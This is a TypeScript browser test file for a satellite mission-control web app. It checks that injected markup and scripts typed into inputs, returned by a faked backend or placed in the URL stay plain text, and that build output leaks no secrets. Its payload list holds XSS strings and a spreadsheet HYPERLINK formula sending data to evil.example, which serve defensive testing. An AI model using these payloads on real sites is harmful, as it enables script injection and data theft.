import { cp, mkdir, mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { homedir } from 'node:os';
import { join, relative } from 'node:path';
import { chromium, type Page, type Route } from 'playwright-core';
import { describe, expect, inject, it, onTestFinished } from 'vitest';
import { N2YO_KEY } from '../support/gateway.ts';
import { CHROMIUM_ARGS } from './chromium.ts';
import { expectClean, openPage, problemsOf } from './harness.ts';
import { PROJECT_ROOT, startNode } from './node-process.ts';
import { button, openTab, toastsOf } from './operator.ts';

/** Scripts in every input of the product: they must stay text, and nothing else may happen. */

const PAYLOADS = [
  '<script data-pwned>window.pwned = 1</script>',
  '"><img data-pwned src=x onerror="window.pwned = 1">',
  '<svg data-pwned onload=alert(1)><iframe data-pwned srcdoc="<script>alert(1)</script>">',
  '</title></style></textarea><b data-pwned onclick=alert(1)>',
  'javascript:alert(document.domain)//',
  '{{constructor.constructor("window.pwned = 1")()}} <%= window.pwned = 1 %>',
  '=HYPERLINK("https://evil.example/?"&A1,"open")',
] as const;
const ALL = PAYLOADS.join(' ');
/** A title may have up to 200 characters. */
const TITLE = [PAYLOADS[6], PAYLOADS[0], PAYLOADS[1]].join(' ');

/** Fails if any payload did more than being shown. */
async function expectHarmless(page: Page, asked: readonly string[]): Promise<void> {
  const found = await page.evaluate(() => ({
    elements: document.querySelectorAll('[data-pwned], iframe, main script').length,
    handlers: document.querySelectorAll('[onclick], [onerror], [onload]').length,
    links: [...document.querySelectorAll('a')].filter((link) => !/^https?:$|^blob:$/.test(link.protocol))
      .length,
    ran: 'pwned' in window,
  }));
  expect(found).toEqual({ elements: 0, handlers: 0, links: 0, ran: false });
  expect(asked).toEqual([]);
}

/** Records the dialogs that the page opens and the other hosts that it requests. */
function watch(page: Page): string[] {
  const seen: string[] = [];
  page.on('dialog', (dialog) => {
    seen.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('request', (request) => {
    const { protocol, hostname } = new URL(request.url());
    if (protocol.startsWith('http') && hostname !== 'localhost') seen.push(`asked ${request.url()}`);
  });
  return seen;
}

const later = (hours: number): string => new Date(Date.now() + hours * 3_600_000).toISOString().slice(0, 16);

it('the page on a host without encryption loads with a clean console', async () => {
  const rule = '--host-resolver-rules=MAP mission.example 127.0.0.1';
  const browser = await chromium.launch({
    executablePath: inject('chromiumPath'),
    args: [...CHROMIUM_ARGS, rule],
  });
  onTestFinished(() => browser.close());
  const page = await browser.newPage();
  await page.goto(inject('baseUrl').replace('localhost', 'mission.example'));
  await page.getByText('Connected to ORBITA-1').waitFor();
  expect(await page.evaluate(() => isSecureContext)).toBe(false);
  expect((await page.consoleMessages()).map((message) => message.text())).toEqual([]);
});

describe('script', () => {
  it('typed into every field stays text', async () => {
    const page = await openTab('timeline');
    const seen = watch(page);
    await button(page, 'New Event').click();
    await page.getByRole('textbox', { name: 'Title' }).fill(TITLE);
    await page.getByLabel('Start Time').fill(later(3));
    await page.getByLabel('End Time').fill(later(4));
    await page.getByRole('textbox', { name: 'Description' }).fill(ALL);
    await button(page, 'Add Event').click();
    await page.getByRole('article', { name: TITLE, exact: true }).first().waitFor();
    await page.getByText(ALL, { exact: true }).first().waitFor();
    await expectHarmless(page, seen);

    await page.getByRole('tab', { name: 'Commands' }).click();
    await button(page, 'New Command').click();
    const time = page.getByLabel('Scheduled Time', { exact: false }).and(page.locator('input'));
    await time.focus();
    await page.keyboard.type(ALL.slice(0, 60));
    await button(page, 'Queue Command').click();
    await expect.poll(() => toastsOf(page)).toContain('Please fill in all fields');

    await page.getByRole('tab', { name: 'Anomalies' }).click();
    const search = page.getByRole('searchbox');
    for (const payload of [...PAYLOADS, '(a+)+$', '\\', '[', '%00']) await search.fill(payload);
    await search.fill('HYPERLINK'); // the event's line in the log
    await page.getByRole('region', { name: 'Events, newest first' }).getByText('HYPERLINK').first().waitFor();
    await expectHarmless(page, seen);
    await expectClean(page);
  });

  it('in every text of a compromised backend stays text', async () => {
    let seen: readonly string[] = [];
    const answer = (route: Route) => {
      const url = route.request().url();
      const body = url.includes('astros')
        ? {
            people: [
              { name: ALL, craft: ALL },
              { name: PAYLOADS[1], craft: 'ISS' },
            ],
            number: 2,
            message: ALL,
          }
        : { error: ALL, message: ALL, info: { satname: ALL }, gateway: { source: ALL, error: ALL } };
      return route.fulfill({
        status: url.includes('astros') ? 200 : 502,
        headers: { 'content-type': 'text/html', 'x-injected': '<script>' },
        body: JSON.stringify(body),
      });
    };
    const page = await openPage({
      path: '/?tab=orbital',
      async beforeLoad(empty) {
        seen = watch(empty);
        await empty.route('**/functions/v1/**', answer);
      },
    });
    const crew = page.getByRole('region', { name: 'Astronauts in Orbit' });
    await crew.getByText('<img data-pwned', { exact: false }).first().waitFor();
    await page.getByRole('button', { name: /^Sources:/ }).click();
    await page
      .getByRole('dialog', { name: 'Data sources' })
      .getByText('<script data-pwned>')
      .first()
      .waitFor();
    await expectHarmless(page, seen);
    const problems = (await problemsOf(page)).filter(
      (problem) => !/status of 502|Failed to fetch the ISS position/.test(problem),
    );
    expect(problems).toEqual([]);
  });

  it('in the address stays text', async () => {
    const query = new URLSearchParams({ tab: ALL, satellite: ALL, wall: ALL, theme: ALL, __proto__: ALL });
    let seen: readonly string[] = [];
    const page = await openPage({
      path: `/?${query}#${encodeURIComponent(ALL)}`,
      beforeLoad: async (empty) => {
        seen = watch(empty);
      },
    });
    await page.getByText('Connected to ORBITA-1').waitFor();
    await expectHarmless(page, seen);
    await page.goto(`/${encodeURIComponent(PAYLOADS[1])}/${encodeURIComponent(PAYLOADS[2])}`);
    await page.getByText('404').first().waitFor();
    await expectHarmless(page, seen);
    await expectClean(page);
  });
});

it('an injected script can use no markup, code or other hosts', async () => {
  const page = await openPage();
  await page.getByText('Connected to ORBITA-1').waitFor();
  const outcome = await page.evaluate(() => {
    const attempt = (act: () => unknown) => {
      try {
        act();
        return 'done';
      } catch (error) {
        return (error as Error).name;
      }
    };
    const place = document.createElement('div');
    return {
      markup: attempt(() => {
        place.innerHTML = '<img src=x>';
      }),
      foreignWorker: attempt(() => new Worker('https://evil.example/worker.js')),
      dataWorker: attempt(() => new Worker('data:text/javascript,1')),
      policy: attempt(() =>
        (
          window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }
        ).trustedTypes.createPolicy('other', {}),
      ),
      isolated: crossOriginIsolated,
      empty: attempt(() => {
        place.innerHTML = '';
      }),
    };
  });
  expect(outcome).toEqual({
    markup: 'TypeError',
    foreignWorker: 'TypeError',
    dataWorker: 'TypeError',
    policy: 'TypeError',
    isolated: true,
    empty: 'TypeError',
  });
});

/** Preloaded by the build: it then compresses in a fraction of the time. */
const QUICK_COMPRESSION = `
  import { syncBuiltinESMExports } from 'node:module';
  import zlib from 'node:zlib';
  const { brotliCompress, constants, gzip } = zlib;
  const params = { [constants.BROTLI_PARAM_QUALITY]: 1 };
  zlib.brotliCompress = (bytes, _, done) => brotliCompress(bytes, { params }, done);
  zlib.gzip = (bytes, _, done) => gzip(bytes, { level: 1 }, done);
  syncBuiltinESMExports();`;

describe('the build output', () => {
  async function filesBelow(folder: string): Promise<ReadonlyMap<string, Buffer>> {
    const entries = await readdir(folder, { recursive: true, withFileTypes: true });
    const paths = entries
      .filter((entry) => entry.isFile())
      .map((entry) => join(entry.parentPath, entry.name));
    return new Map(
      await Promise.all(paths.map(async (path) => [relative(folder, path), await readFile(path)] as const)),
    );
  }

  it('contains no secret and no path of the build machine, and is the same from every folder', async () => {
    // Inside the project, so that the build finds its packages as usual, by looking upwards.
    const parent = join(PROJECT_ROOT, 'test-results');
    await mkdir(parent, { recursive: true });
    const folder = await mkdtemp(join(parent, 'bundle-'));
    onTestFinished(() => rm(folder, { recursive: true }));
    for (const name of ['src', 'public', 'scripts', 'index.html', 'vite.config.ts', 'package.json'])
      await cp(join(PROJECT_ROOT, name), join(folder, name), { recursive: true });
    for (const name of ['package-lock.json', 'tsconfig.json', 'tsconfig.base.json', 'tests/tsconfig.json'])
      await cp(join(PROJECT_ROOT, name), join(folder, name));
    const built = startNode(relative(PROJECT_ROOT, join(folder, 'scripts/build.mjs')), {
      N2YO_API_KEY: N2YO_KEY,
      SECRET: 'canary-8c1f',
      NODE_OPTIONS: `--import=data:text/javascript,${encodeURIComponent(QUICK_COMPRESSION)}`,
    });
    expect(await built.ended).toMatchObject({ code: 0, stderr: '' });

    const files = await filesBelow(join(folder, 'dist'));
    expect([...files.keys()]).toEqual(
      expect.arrayContaining(['client/index.html', 'server/server.js', 'edge/gateway.js']),
    );
    for (const [name, bytes] of files) {
      expect(name).not.toMatch(/\.map$/);
      const text = bytes.toString('latin1');
      for (const telling of [
        N2YO_KEY,
        'canary-8c1f',
        folder,
        PROJECT_ROOT,
        `${homedir()}/`,
        'sourceMappingURL=',
      ]) {
        expect(text.includes(telling), `${name} holds ${telling}`).toBe(false);
      }
    }
    const ours = await filesBelow(join(PROJECT_ROOT, 'dist'));
    // server.test.ts compares the compressed files with the others.
    for (const [name, bytes] of files)
      expect(/\.(br|gz)$/.test(name) || ours.get(name)?.equals(bytes), name).toBe(true);
  });
});
